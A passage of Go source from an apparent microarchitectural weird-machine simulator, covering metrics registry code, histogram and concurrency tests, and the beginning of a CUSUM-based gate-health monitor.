	}
}

// TestQuantileOpenTopBucket puts all mass above every bound: the
// estimate must clamp to the top bound, not report +Inf.
func TestQuantileOpenTopBucket(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("uwm_top_cycles", "", []float64{10, 20, 40})
	for i := 0; i < 8; i++ {
		h.Observe(1000)
	}
	for _, q := range []float64{0, 0.25, 0.5, 1} {
		got := h.Quantile(q)
		if math.IsInf(got, 0) || math.IsNaN(got) {
			t.Fatalf("open-bucket Quantile(%v) = %v, want finite", q, got)
		}
		if got != 40 {
			t.Errorf("open-bucket Quantile(%v) = %v, want clamp to 40", q, got)
		}
	}
}

// TestQuantileExtremes pins q=0 and q=1 to the edges of the populated
// range, and clamps out-of-range and NaN q instead of propagating them.
func TestQuantileExtremes(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("uwm_edge_cycles", "", []float64{10, 20, 40, 80})
	for _, x := range []float64{12, 15, 18, 35, 70} {
		h.Observe(x)
	}

	// q=0 sits at the lower edge of the first populated bucket — here
	// (10, 20], so 10.
	if got := h.Quantile(0); got != 10 {
		t.Errorf("Quantile(0) = %v, want 10", got)
	}
	if got := h.Quantile(1); got != 80 {
		t.Errorf("Quantile(1) = %v, want 80", got)
	}
	if got, want := h.Quantile(-3), h.Quantile(0); got != want {
		t.Errorf("Quantile(-3) = %v, want clamp to Quantile(0) = %v", got, want)
	}
	if got, want := h.Quantile(7), h.Quantile(1); got != want {
		t.Errorf("Quantile(7) = %v, want clamp to Quantile(1) = %v", got, want)
	}
	got := h.Quantile(math.NaN())
	if math.IsNaN(got) {
		t.Fatal("Quantile(NaN) propagated NaN")
	}
	if want := h.Quantile(0); got != want {
		t.Errorf("Quantile(NaN) = %v, want clamp to Quantile(0) = %v", got, want)
	}

	// Monotone in q across the populated range.
	prev := math.Inf(-1)
	for q := 0.0; q <= 1.0; q += 0.05 {
		v := h.Quantile(q)
		if v < prev {
			t.Fatalf("Quantile not monotone: q=%v gives %v after %v", q, v, prev)
		}
		prev = v
	}
}
