// Package metrics is the simulator's dependency-free metrics layer: a
// registry of named, labelled counters, gauges and fixed-bucket
// histograms, plus lazily-collected variants that read an existing
// stats struct at scrape time.
//
// Two properties shape the design:
//
//   - the disabled path must be free: every instrument is nil-safe, so
//     an uninstrumented Machine hands nil *Counter / *Histogram handles
//     to the hot gate-fire loop and pays a nil check per event, no
//     allocation (BenchmarkMetricsDisabled guards this);
//   - values must be scrapeable concurrently: a -pprof HTTP goroutine
//     renders the registry while the simulation runs, so live
//     instruments use atomics and collector functions are only invoked
//     under the registry lock.
//
// The text exposition (WriteText) follows the Prometheus conventions so
// the output can be scraped or diffed directly.
package metrics

import (
	"fmt"
	"io"
	"math"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
)

// Label is one key=value dimension of a metric series.
type Label struct {
	Key, Value string
}

// L is shorthand for constructing a Label.
func L(key, value string) Label { return Label{Key: key, Value: value} }

// Counter is a monotonically increasing counter. The nil Counter is a
// valid, disabled instrument: all methods no-op.
type Counter struct {
	v atomic.Uint64
}

// Inc adds one.
func (c *Counter) Inc() {
	if c != nil {
		c.v.Add(1)
	}
}

// Add adds n.
func (c *Counter) Add(n uint64) {
	if c != nil {
		c.v.Add(n)
	}
}

// Value returns the current count (0 for a nil Counter).
func (c *Counter) Value() uint64 {
	if c == nil {
		return 0
	}
	return c.v.Load()
}

// Gauge is a settable value. The nil Gauge no-ops.
type Gauge struct {
	bits atomic.Uint64
}

// Set stores v.
func (g *Gauge) Set(v float64) {
	if g != nil {
		g.bits.Store(math.Float64bits(v))
	}
}

// Value returns the current value (0 for a nil Gauge).
func (g *Gauge) Value() float64 {
	if g == nil {
		return 0
	}
	return math.Float64frombits(g.bits.Load())
}

// kind discriminates registry entries.
type kind uint8

const (
	kindCounter kind = iota
	kindGauge
	kindHistogram
	kindCounterFunc
	kindGaugeFunc
)

func (k kind) String() string {
	switch k {
	case kindCounter, kindCounterFunc:
		return "counter"
	case kindGauge, kindGaugeFunc:
		return "gauge"
	case kindHistogram:
		return "histogram"
	default:
		return "untyped"
	}
}

// entry is one registered series.
type entry struct {
	name   string
	help   string
	labels []Label
	kind   kind

	counter   *Counter
	gauge     *Gauge
	hist      *Histogram
	counterFn func() uint64
	gaugeFn   func() float64
}

// scalar returns the entry's current value for scalar kinds.
func (e *entry) scalar() float64 {
	switch e.kind {
	case kindCounter:
		return float64(e.counter.Value())
	case kindGauge:
		return e.gauge.Value()
	case kindCounterFunc:
		return float64(e.counterFn())
	case kindGaugeFunc:
		return e.gaugeFn()
	default:
		return 0
	}
}

// Registry holds metric series in registration order. The nil Registry
// is a valid, disabled registry: instrument constructors return nil
// instruments and registration no-ops, so callers can thread a nil
// registry through an uninstrumented run for free.
type Registry struct {
	mu      sync.Mutex
	entries []*entry
	index   map[string]*entry
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{index: make(map[string]*entry)}
}

// seriesKey uniquely identifies name+labels.
func seriesKey(name string, labels []Label) string {
	if len(labels) == 0 {
		return name
	}
	var sb strings.Builder
	sb.WriteString(name)
	for _, l := range labels {
		sb.WriteByte(0xff)
		sb.WriteString(l.Key)
		sb.WriteByte(0xfe)
		sb.WriteString(l.Value)
	}
	return sb.String()
}

// lookupOrAdd returns the existing entry for the series or inserts the
// given one. Registration is idempotent: re-registering a series
// returns the first registration (so two gates of the same type share
// one counter, and re-attaching a collector is harmless).
func (r *Registry) lookupOrAdd(e *entry) *entry {
	key := seriesKey(e.name, e.labels)
	r.mu.Lock()
	defer r.mu.Unlock()
	if prev, ok := r.index[key]; ok {
		if prev.kind.String() != e.kind.String() {
			panic(fmt.Sprintf("metrics: series %q re-registered as %s, was %s",
				e.name, e.kind, prev.kind))
		}
		return prev
	}
	r.index[key] = e
	r.entries = append(r.entries, e)
	return e
}

// Counter returns the counter for the series, creating it on first
// use. A nil Registry returns a nil (disabled) Counter.
func (r *Registry) Counter(name, help string, labels ...Label) *Counter {
	if r == nil {
		return nil
	}
	e := r.lookupOrAdd(&entry{name: name, help: help, labels: labels,
		kind: kindCounter, counter: new(Counter)})
	return e.counter
}

// Gauge returns the gauge for the series, creating it on first use.
// A nil Registry returns a nil (disabled) Gauge.
func (r *Registry) Gauge(name, help string, labels ...Label) *Gauge {
	if r == nil {
		return nil
	}
	e := r.lookupOrAdd(&entry{name: name, help: help, labels: labels,
		kind: kindGauge, gauge: new(Gauge)})
	return e.gauge
}

// Histogram returns the histogram for the series, creating it with the
// given ascending bucket upper bounds on first use. A nil Registry
// returns a nil (disabled) Histogram.
func (r *Registry) Histogram(name, help string, bounds []float64, labels ...Label) *Histogram {
	if r == nil {
		return nil
	}
	e := r.lookupOrAdd(&entry{name: name, help: help, labels: labels,
		kind: kindHistogram, hist: newHistogram(bounds)})
	return e.hist
}

// CounterFunc registers a lazily-collected counter whose value is read
// from fn at scrape time — the zero-hot-path-cost way to expose an
// existing stats struct field. fn must be cheap and safe to call from
// the scraping goroutine.
func (r *Registry) CounterFunc(name, help string, fn func() uint64, labels ...Label) {
	if r == nil {
		return
	}
	r.lookupOrAdd(&entry{name: name, help: help, labels: labels,
		kind: kindCounterFunc, counterFn: fn})
}

// GaugeFunc registers a lazily-collected gauge.
func (r *Registry) GaugeFunc(name, help string, fn func() float64, labels ...Label) {
	if r == nil {
		return
	}
	r.lookupOrAdd(&entry{name: name, help: help, labels: labels,
		kind: kindGaugeFunc, gaugeFn: fn})
}

// Value returns the current value of the scalar series (counter, gauge
// or collector) with the given name and labels. It reports false for
// unknown series and histograms.
func (r *Registry) Value(name string, labels ...Label) (float64, bool) {
	if r == nil {
		return 0, false
	}
	r.mu.Lock()
	e, ok := r.index[seriesKey(name, labels)]
	r.mu.Unlock()
	if !ok || e.kind == kindHistogram {
		return 0, false
	}
	return e.scalar(), true
}

// HistogramValue returns the histogram registered under name+labels,
// or nil.
func (r *Registry) HistogramValue(name string, labels ...Label) *Histogram {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	e, ok := r.index[seriesKey(name, labels)]
	r.mu.Unlock()
	if !ok || e.kind != kindHistogram {
		return nil
	}
	return e.hist
}

// formatLabels renders {k="v",...} or "".
func formatLabels(labels []Label, extra ...Label) string {
	all := append(append([]Label(nil), labels...), extra...)
	if len(all) == 0 {
		return ""
	}
	var sb strings.Builder
	sb.WriteByte('{')
	for i, l := range all {
		if i > 0 {
			sb.WriteByte(',')
		}
		fmt.Fprintf(&sb, "%s=%q", l.Key, l.Value)
	}
	sb.WriteByte('}')
	return sb.String()
}

// formatValue renders a sample value the way Prometheus does: integers
// without a decimal point, everything else in shortest-float form.
func formatValue(v float64) string {
	if v == math.Trunc(v) && math.Abs(v) < 1e15 {
		return fmt.Sprintf("%d", int64(v))
	}
	return fmt.Sprintf("%g", v)
}

// WriteText renders the registry in the Prometheus text exposition
// format, grouped by metric name with # HELP and # TYPE headers,
// names sorted for stable output.
func (r *Registry) WriteText(w io.Writer) error {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	entries := append([]*entry(nil), r.entries...)
	r.mu.Unlock()

	sort.SliceStable(entries, func(i, j int) bool { return entries[i].name < entries[j].name })

	lastName := ""
	for _, e := range entries {
		if e.name != lastName {
			if e.help != "" {
				if _, err := fmt.Fprintf(w, "# HELP %s %s\n", e.name, e.help); err != nil {
					return err
				}
			}
			if _, err := fmt.Fprintf(w, "# TYPE %s %s\n", e.name, e.kind); err != nil {
				return err
			}
			lastName = e.name
		}
		if e.kind == kindHistogram {
			if err := e.hist.writeText(w, e.name, e.labels); err != nil {
				return err
			}
			continue
		}
		if _, err := fmt.Fprintf(w, "%s%s %s\n", e.name, formatLabels(e.labels), formatValue(e.scalar())); err != nil {
			return err
		}
	}
	return nil
}
