package metrics

import (
	"strings"
	"testing"
)

func TestObserveExemplarAnnotatesBucket(t *testing.T) {
	reg := NewRegistry()
	h := reg.Histogram("job_seconds", "per-job latency", []float64{0.1, 1, 10})
	h.Observe(0.05)
	h.ObserveExemplar(0.5, L("trace_id", "job-00000007"))
	h.ObserveExemplar(5, L("trace_id", "job-00000008"))

	var b strings.Builder
	if err := reg.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.Contains(out, `job_seconds_bucket{le="1"} 2 # {trace_id="job-00000007"} 0.5`) {
		t.Errorf("le=1 bucket missing its exemplar:\n%s", out)
	}
	if !strings.Contains(out, `job_seconds_bucket{le="10"} 3 # {trace_id="job-00000008"} 5`) {
		t.Errorf("le=10 bucket missing its exemplar:\n%s", out)
	}
	// The un-exemplared bucket keeps the plain exposition shape.
	if !strings.Contains(out, `job_seconds_bucket{le="0.1"} 1`+"\n") {
		t.Errorf("le=0.1 bucket gained an unexpected suffix:\n%s", out)
	}
	if !strings.Contains(out, "job_seconds_count 3") {
		t.Errorf("count wrong:\n%s", out)
	}
}

func TestObserveExemplarLatestWinsPerBucket(t *testing.T) {
	reg := NewRegistry()
	h := reg.Histogram("h", "", []float64{1})
	h.ObserveExemplar(0.25, L("trace_id", "old"))
	h.ObserveExemplar(0.75, L("trace_id", "new"))

	var b strings.Builder
	if err := reg.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.Contains(out, `h_bucket{le="1"} 2 # {trace_id="new"} 0.75`) {
		t.Errorf("newest exemplar should win the bucket:\n%s", out)
	}
	if strings.Contains(out, `"old"`) {
		t.Errorf("stale exemplar still rendered:\n%s", out)
	}
}

func TestObserveExemplarNilSafe(t *testing.T) {
	var h *Histogram
	h.ObserveExemplar(1, L("trace_id", "x")) // must not panic
}
