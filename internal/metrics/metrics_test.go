package metrics

import (
	"math"
	"strings"
	"testing"
)

func TestCounterGaugeBasics(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("uwm_test_total", "test counter")
	c.Inc()
	c.Add(4)
	if c.Value() != 5 {
		t.Errorf("counter = %d, want 5", c.Value())
	}
	g := r.Gauge("uwm_test_level", "test gauge")
	g.Set(3.5)
	if g.Value() != 3.5 {
		t.Errorf("gauge = %v, want 3.5", g.Value())
	}
	if v, ok := r.Value("uwm_test_total"); !ok || v != 5 {
		t.Errorf("Value(counter) = %v,%v", v, ok)
	}
	if v, ok := r.Value("uwm_test_level"); !ok || v != 3.5 {
		t.Errorf("Value(gauge) = %v,%v", v, ok)
	}
	if _, ok := r.Value("uwm_absent"); ok {
		t.Error("Value reported an unregistered series")
	}
}

func TestRegistrationIdempotent(t *testing.T) {
	r := NewRegistry()
	a := r.Counter("uwm_gate_fires_total", "", L("gate", "AND"))
	b := r.Counter("uwm_gate_fires_total", "", L("gate", "AND"))
	if a != b {
		t.Error("same series returned distinct counters")
	}
	other := r.Counter("uwm_gate_fires_total", "", L("gate", "OR"))
	if other == a {
		t.Error("distinct label sets shared a counter")
	}
	a.Inc()
	if v, ok := r.Value("uwm_gate_fires_total", L("gate", "AND")); !ok || v != 1 {
		t.Errorf("labelled Value = %v,%v", v, ok)
	}
	if v, _ := r.Value("uwm_gate_fires_total", L("gate", "OR")); v != 0 {
		t.Errorf("OR series polluted: %v", v)
	}
}

func TestKindMismatchPanics(t *testing.T) {
	r := NewRegistry()
	r.Counter("uwm_x", "")
	defer func() {
		if recover() == nil {
			t.Error("re-registering a counter as a gauge did not panic")
		}
	}()
	r.Gauge("uwm_x", "")
}

func TestCollectorFuncs(t *testing.T) {
	r := NewRegistry()
	n := uint64(0)
	r.CounterFunc("uwm_lazy_total", "reads a stats field", func() uint64 { return n })
	r.GaugeFunc("uwm_lazy_level", "", func() float64 { return float64(n) / 2 })
	n = 8
	if v, ok := r.Value("uwm_lazy_total"); !ok || v != 8 {
		t.Errorf("counter func = %v,%v", v, ok)
	}
	if v, ok := r.Value("uwm_lazy_level"); !ok || v != 4 {
		t.Errorf("gauge func = %v,%v", v, ok)
	}
}

func TestHistogramQuantiles(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("uwm_lat_cycles", "", []float64{10, 20, 40, 80})
	for i := 1; i <= 100; i++ {
		h.Observe(float64(i))
	}
	if h.Count() != 100 {
		t.Fatalf("count = %d", h.Count())
	}
	if h.Sum() != 5050 {
		t.Errorf("sum = %v", h.Sum())
	}
	if m := h.Mean(); m != 50.5 {
		t.Errorf("mean = %v", m)
	}
	// Uniform 1..100: the median lives in the 40–80 bucket, the bucketed
	// estimate must land inside it.
	if q := h.Quantile(0.5); q < 40 || q > 80 {
		t.Errorf("p50 = %v, want within (40,80]", q)
	}
	if q := h.Quantile(0.05); q > 10 {
		t.Errorf("p05 = %v, want ≤ 10", q)
	}
	// Values above every bound clamp to the top bound.
	if q := h.Quantile(1); q != 80 {
		t.Errorf("p100 = %v, want 80 (clamped)", q)
	}
	bins := h.Bins()
	if len(bins) != 5 {
		t.Fatalf("bins = %d", len(bins))
	}
	total := 0
	for _, b := range bins {
		total += b.Count
	}
	if total != 100 {
		t.Errorf("bin counts sum to %d", total)
	}
	if bins[4].Count != 20 { // 81..100 in the +Inf bucket
		t.Errorf("overflow bucket = %d, want 20", bins[4].Count)
	}
}

func TestWriteText(t *testing.T) {
	r := NewRegistry()
	r.Counter("uwm_cache_hits_total", "cache hits", L("level", "L1D")).Add(7)
	r.Counter("uwm_cache_hits_total", "cache hits", L("level", "L2")).Add(2)
	r.Gauge("uwm_machine_threshold_cycles", "calibrated threshold").Set(129)
	h := r.Histogram("uwm_read_cycles", "read latencies", []float64{50, 250})
	h.Observe(35)
	h.Observe(224)
	h.Observe(900)

	var sb strings.Builder
	if err := r.WriteText(&sb); err != nil {
		t.Fatal(err)
	}
	out := sb.String()
	for _, want := range []string{
		"# TYPE uwm_cache_hits_total counter",
		`uwm_cache_hits_total{level="L1D"} 7`,
		`uwm_cache_hits_total{level="L2"} 2`,
		"# TYPE uwm_machine_threshold_cycles gauge",
		"uwm_machine_threshold_cycles 129",
		"# TYPE uwm_read_cycles histogram",
		`uwm_read_cycles_bucket{le="50"} 1`,
		`uwm_read_cycles_bucket{le="250"} 2`,
		`uwm_read_cycles_bucket{le="+Inf"} 3`,
		"uwm_read_cycles_sum 1159",
		"uwm_read_cycles_count 3",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("exposition missing %q in:\n%s", want, out)
		}
	}
	// HELP/TYPE headers must appear once per name, not per series.
	if n := strings.Count(out, "# TYPE uwm_cache_hits_total"); n != 1 {
		t.Errorf("TYPE header repeated %d times", n)
	}
}

func TestNilRegistryAndInstruments(t *testing.T) {
	var r *Registry
	c := r.Counter("uwm_x_total", "")
	g := r.Gauge("uwm_x", "")
	h := r.Histogram("uwm_x_cycles", "", DefaultLatencyBuckets())
	r.CounterFunc("uwm_y_total", "", func() uint64 { return 1 })
	r.GaugeFunc("uwm_y", "", func() float64 { return 1 })
	if c != nil || g != nil || h != nil {
		t.Fatal("nil registry returned live instruments")
	}
	c.Inc()
	c.Add(3)
	g.Set(2)
	h.Observe(5)
	if c.Value() != 0 || g.Value() != 0 || h.Count() != 0 || h.Quantile(0.5) != 0 {
		t.Error("nil instruments accumulated state")
	}
	if _, ok := r.Value("uwm_y_total"); ok {
		t.Error("nil registry resolved a value")
	}
	if err := r.WriteText(&strings.Builder{}); err != nil {
		t.Error(err)
	}
	if h.Bins() != nil || !math.IsNaN(h.Mean()) && h.Mean() != 0 {
		t.Error("nil histogram derived state")
	}
}

// TestDisabledMetricsZeroAlloc is the satellite guard: instruments of a
// nil registry must cost zero allocations in hot loops.
func TestDisabledMetricsZeroAlloc(t *testing.T) {
	var r *Registry
	c := r.Counter("uwm_hot_total", "")
	h := r.Histogram("uwm_hot_cycles", "", DefaultLatencyBuckets())
	allocs := testing.AllocsPerRun(1000, func() {
		c.Inc()
		c.Add(2)
		h.Observe(42)
	})
	if allocs != 0 {
		t.Errorf("disabled instruments allocated %v/op, want 0", allocs)
	}
}

// BenchmarkMetricsDisabled measures the disabled path the hot
// gate-fire loop pays when no registry is attached.
func BenchmarkMetricsDisabled(b *testing.B) {
	var r *Registry
	c := r.Counter("uwm_hot_total", "")
	h := r.Histogram("uwm_hot_cycles", "", DefaultLatencyBuckets())
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Inc()
		h.Observe(float64(i))
	}
}

// BenchmarkMetricsEnabled is the enabled-path baseline for comparison.
func BenchmarkMetricsEnabled(b *testing.B) {
	r := NewRegistry()
	c := r.Counter("uwm_hot_total", "")
	h := r.Histogram("uwm_hot_cycles", "", DefaultLatencyBuckets())
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Inc()
		h.Observe(float64(i))
	}
}
