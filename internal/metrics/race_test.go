package metrics

import (
	"io"
	"sync"
	"testing"
)

// TestConcurrentScrapeWhileEmitting pins the live-scrape contract the
// obs debug endpoint relies on: one goroutine scrapes WriteText (and
// Value) while others register series and bump counters, gauges and
// histograms. The test's assertion is the race detector — `go test
// -race` fails on any unsynchronized access — plus the final counts.
func TestConcurrentScrapeWhileEmitting(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("uwm_race_total", "shared counter")
	g := r.Gauge("uwm_race_level", "shared gauge")
	h := r.Histogram("uwm_race_hist", "shared histogram", []float64{1, 10, 100})

	const (
		writers = 4
		perG    = 2000
	)
	var writersWG, scraperWG sync.WaitGroup
	stop := make(chan struct{})

	// Scraper: hammer the read paths until the writers finish.
	scraperWG.Add(1)
	go func() {
		defer scraperWG.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			if err := r.WriteText(io.Discard); err != nil {
				t.Errorf("WriteText: %v", err)
				return
			}
			r.Value("uwm_race_total")
			r.HistogramValue("uwm_race_hist")
		}
	}()

	for w := 0; w < writers; w++ {
		writersWG.Add(1)
		go func(w int) {
			defer writersWG.Done()
			mine := r.Counter("uwm_race_worker_total", "per-worker series",
				L("worker", string(rune('a'+w))))
			for i := 0; i < perG; i++ {
				c.Inc()
				mine.Inc()
				g.Set(float64(i))
				h.Observe(float64(i % 150))
				// Late registration while a scrape may be mid-flight.
				if i == perG/2 {
					n := uint64(i)
					r.CounterFunc("uwm_race_func_"+string(rune('a'+w)),
						"registered mid-run", func() uint64 { return n })
				}
			}
		}(w)
	}

	// Wait for the writers, then release the scraper.
	writersWG.Wait()
	close(stop)
	scraperWG.Wait()

	if got := c.Value(); got != writers*perG {
		t.Errorf("shared counter = %d, want %d", got, writers*perG)
	}
	for w := 0; w < writers; w++ {
		v, ok := r.Value("uwm_race_worker_total", L("worker", string(rune('a'+w))))
		if !ok || v != perG {
			t.Errorf("worker %d series = %v,%v, want %d", w, v, ok, perG)
		}
	}
}
