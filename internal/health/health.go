// Package health tracks the runtime health of a weird machine's timing
// gates. The paper's gates are probabilistic timing devices: a bit is
// decoded by comparing a timed read against the calibrated hit/miss
// threshold, so correctness is exactly the distance of each read from
// that threshold — the timing margin. Contention and microarchitectural
// drift (frequency scaling, thermal throttling) erode the margin long
// before gates start flipping bits, which makes the margin distribution
// the leading health indicator for a serving stack built on μWMs.
//
// The Monitor is a trace.Sink: it consumes the machine's existing
// microarchitectural event stream (KindTimedRead for margins,
// KindCalibration for threshold changes) plus, when driven live by the
// engine, per-gate correctness outcomes. Because verdicts derive purely
// from the trace stream, replaying a JSONL recording through the same
// Monitor (Replay) reproduces the live drift verdicts exactly — the
// live == offline property the vprof profiler established for cycles,
// extended here to health.
//
// Drift detection is a one-sided CUSUM on the absolute margin: the first
// BaselineSamples reads after each calibration establish a baseline mean
// and deviation, then S accumulates standardized shrinkage below the
// baseline, alarming when S crosses CUSUMThreshold. A calibration event
// resets the detector, so the recover-by-recalibration loop (engine
// worker sees Drifting, calls Machine.Recalibrate, machine emits
// KindCalibration, Monitor resets) closes by construction.
package health

import (
	"encoding/json"
	"fmt"
	"sort"
	"strings"
	"sync"

	"uwm/internal/stats"
	"uwm/internal/trace"
)

// Config tunes a Monitor. The zero value selects the defaults below.
type Config struct {
	// WindowSize bounds the rolling per-gate margin window backing
	// quantiles and histograms. Default 256.
	WindowSize int
	// BaselineSamples is how many post-calibration reads establish the
	// CUSUM baseline before drift scoring starts. Default 64.
	BaselineSamples int
	// ErrorAlpha is the EWMA weight for per-gate error rates fed via
	// ObserveOutcome. Default 0.05.
	ErrorAlpha float64
	// MarginAlpha is the EWMA weight for the absolute-margin trend.
	// Default 0.05.
	MarginAlpha float64
	// CUSUMSlack is the CUSUM slack k in baseline standard deviations:
	// shrinkage smaller than k·σ is ignored. The default 1.0 tunes the
	// detector for sustained shifts of about 2σ and up — a finite
	// baseline underestimates the margin spread, so a smaller slack
	// false-alarms on long healthy streams. Default 1.0.
	CUSUMSlack float64
	// CUSUMThreshold is the alarm level h for the CUSUM statistic.
	// Default 12.
	CUSUMThreshold float64
	// CUSUMClamp winsorizes each read's standardized shrinkage at ±this
	// many baseline deviations before it enters the CUSUM. Without it a
	// single aberrant read — a hit inflated by interrupt jitter into the
	// gap near the threshold — scores tens of deviations and alarms on
	// its own; clamped, an alarm needs sustained erosion across at least
	// CUSUMThreshold/(CUSUMClamp−CUSUMSlack) reads. Default 4.
	CUSUMClamp float64
	// ErrorRateLimit marks the monitor unhealthy when the machine-level
	// error EWMA exceeds it. Default 0.25.
	ErrorRateLimit float64
	// OutlierCutoff excludes reads with latency at or above this many
	// cycles from margin statistics: TSX aborted reads report a sentinel
	// latency (1<<19) and interrupt outliers add thousands of cycles;
	// both would poison the baseline deviation. Excluded reads are still
	// counted. Default 4096.
	OutlierCutoff int64
}

func (c Config) withDefaults() Config {
	if c.WindowSize <= 0 {
		c.WindowSize = 256
	}
	if c.BaselineSamples <= 0 {
		c.BaselineSamples = 64
	}
	if c.ErrorAlpha <= 0 {
		c.ErrorAlpha = 0.05
	}
	if c.MarginAlpha <= 0 {
		c.MarginAlpha = 0.05
	}
	if c.CUSUMSlack <= 0 {
		c.CUSUMSlack = 1.0
	}
	if c.CUSUMThreshold <= 0 {
		c.CUSUMThreshold = 12
	}
	if c.CUSUMClamp <= 0 {
		c.CUSUMClamp = 4
	}
	if c.ErrorRateLimit <= 0 {
		c.ErrorRateLimit = 0.25
	}
	if c.OutlierCutoff <= 0 {
		c.OutlierCutoff = 4096
	}
	return c
}

// gateState is the per-gate rolling view.
type gateState struct {
	family   string
	reads    int64
	ones     int64
	outliers int64
	ops      int64
	correct  int64
	errEWMA  float64
	errInit  bool
	window   []int64 // signed margins, ring buffer
	wNext    int
	wFull    bool
}

func (g *gateState) pushMargin(m int64, size int) {
	if len(g.window) < size {
		g.window = append(g.window, m)
		return
	}
	g.window[g.wNext] = m
	g.wNext++
	if g.wNext == len(g.window) {
		g.wNext = 0
		g.wFull = true
	}
}

// margins returns the window's samples (order irrelevant to quantiles).
func (g *gateState) margins() []int64 { return g.window }

// Monitor maintains rolling gate-health state for one machine. It is a
// trace.Sink; attach it (via trace.Tee, typically) to the machine whose
// health it should track. All methods are safe for concurrent use: the
// emitting worker and snapshot readers (the HTTP health endpoint) may
// race.
type Monitor struct {
	mu  sync.Mutex
	cfg Config

	threshold            int64
	calibrations         int64
	lastCalibrationCycle int64
	reads                int64
	outliers             int64
	lastCycle            int64

	// Machine-level drift state.
	baseline    []float64 // |margin| samples collected post-calibration
	baseMean    float64
	baseStd     float64
	baseReady   bool
	cusum       float64
	drifting    bool
	marginEWMA  float64
	marginInit  bool
	machErrEWMA float64
	machErrInit bool

	gates map[string]*gateState
}

// NewMonitor builds a Monitor with cfg (zero value: defaults).
func NewMonitor(cfg Config) *Monitor {
	return &Monitor{cfg: cfg.withDefaults(), gates: make(map[string]*gateState)}
}

// Config returns the monitor's effective (default-filled) configuration.
func (m *Monitor) Config() Config { return m.cfg }

// Emit implements trace.Sink. Only calibration and timed-read events are
// consumed; everything else passes through untouched (the monitor is
// normally one leg of a Tee).
func (m *Monitor) Emit(e trace.Event) {
	switch e.Kind {
	case trace.KindCalibration:
		m.mu.Lock()
		m.threshold = int64(e.Value)
		m.calibrations++
		m.lastCalibrationCycle = e.Cycle
		m.lastCycle = e.Cycle
		m.resetDriftLocked()
		m.mu.Unlock()
	case trace.KindTimedRead:
		gate, _, bit, ok := parseTimedRead(e.Text)
		if !ok {
			return
		}
		m.mu.Lock()
		m.observeReadLocked(gate, bit, int64(e.Value), e.Cycle)
		m.mu.Unlock()
	case trace.KindAnnotation:
		if strings.HasPrefix(e.Text, StateEventPrefix) {
			m.applyState(e.Text[len(StateEventPrefix):])
		}
	}
}

// StateEventPrefix marks an annotation event carrying a serialized
// drift-detector checkpoint (see StateEvent).
const StateEventPrefix = "health-state "

// driftState is the wire form of the machine-level drift-detector state
// a StateEvent checkpoint carries. Per-gate windows are deliberately
// absent: the drift verdict is machine-level, and the checkpoint exists
// to make that verdict — not the cosmetic per-gate histograms —
// replayable from a partial stream.
type driftState struct {
	Threshold            int64     `json:"threshold"`
	Calibrations         int64     `json:"calibrations"`
	LastCalibrationCycle int64     `json:"last_calibration_cycle"`
	LastCycle            int64     `json:"last_cycle"`
	Reads                int64     `json:"reads"`
	Outliers             int64     `json:"outliers"`
	Baseline             []float64 `json:"baseline,omitempty"`
	BaselineMean         float64   `json:"baseline_mean"`
	BaselineStd          float64   `json:"baseline_std"`
	BaselineReady        bool      `json:"baseline_ready"`
	CUSUM                float64   `json:"cusum"`
	Drifting             bool      `json:"drifting"`
	MarginEWMA           float64   `json:"margin_ewma"`
	MarginInit           bool      `json:"margin_init"`
}

// StateEvent checkpoints the monitor's machine-level drift state as an
// annotation event. Seeding a per-job trace capture with this event
// before the job's own events makes the capture self-contained:
// replaying it through a fresh Monitor first restores the detector's
// mid-stream state (threshold, baseline, CUSUM, latched verdict), so
// the replayed drift verdict matches the live one even though the
// capture holds only one job's reads. JSON round-trips float64 values
// exactly (shortest-representation encoding), which is what makes the
// live == replayed verdict comparison byte-for-byte.
func (m *Monitor) StateEvent() trace.Event {
	m.mu.Lock()
	st := driftState{
		Threshold:            m.threshold,
		Calibrations:         m.calibrations,
		LastCalibrationCycle: m.lastCalibrationCycle,
		LastCycle:            m.lastCycle,
		Reads:                m.reads,
		Outliers:             m.outliers,
		Baseline:             append([]float64(nil), m.baseline...),
		BaselineMean:         m.baseMean,
		BaselineStd:          m.baseStd,
		BaselineReady:        m.baseReady,
		CUSUM:                m.cusum,
		Drifting:             m.drifting,
		MarginEWMA:           m.marginEWMA,
		MarginInit:           m.marginInit,
	}
	cycle := m.lastCycle
	m.mu.Unlock()
	b, err := json.Marshal(st)
	if err != nil {
		// Unreachable for these field types; degrade to a no-op marker.
		b = []byte("{}")
	}
	return trace.Event{Kind: trace.KindAnnotation, Cycle: cycle, Text: StateEventPrefix + string(b)}
}

// applyState restores a StateEvent checkpoint. Malformed payloads are
// ignored — a checkpoint is an optimization for partial streams, never
// a correctness requirement for full ones.
func (m *Monitor) applyState(data string) {
	var st driftState
	if json.Unmarshal([]byte(data), &st) != nil {
		return
	}
	m.mu.Lock()
	m.threshold = st.Threshold
	m.calibrations = st.Calibrations
	m.lastCalibrationCycle = st.LastCalibrationCycle
	m.lastCycle = st.LastCycle
	m.reads = st.Reads
	m.outliers = st.Outliers
	m.baseline = append(m.baseline[:0], st.Baseline...)
	m.baseMean = st.BaselineMean
	m.baseStd = st.BaselineStd
	m.baseReady = st.BaselineReady
	m.cusum = st.CUSUM
	m.drifting = st.Drifting
	m.marginEWMA = st.MarginEWMA
	m.marginInit = st.MarginInit
	m.mu.Unlock()
}

// resetDriftLocked clears the CUSUM baseline and any latched verdict —
// the monitor's reaction to a (re)calibration.
func (m *Monitor) resetDriftLocked() {
	m.baseline = m.baseline[:0]
	m.baseMean, m.baseStd = 0, 0
	m.baseReady = false
	m.cusum = 0
	m.drifting = false
}

func (m *Monitor) observeReadLocked(gate string, bit int, delta, cycle int64) {
	g := m.gates[gate]
	if g == nil {
		g = &gateState{family: familyOf(gate)}
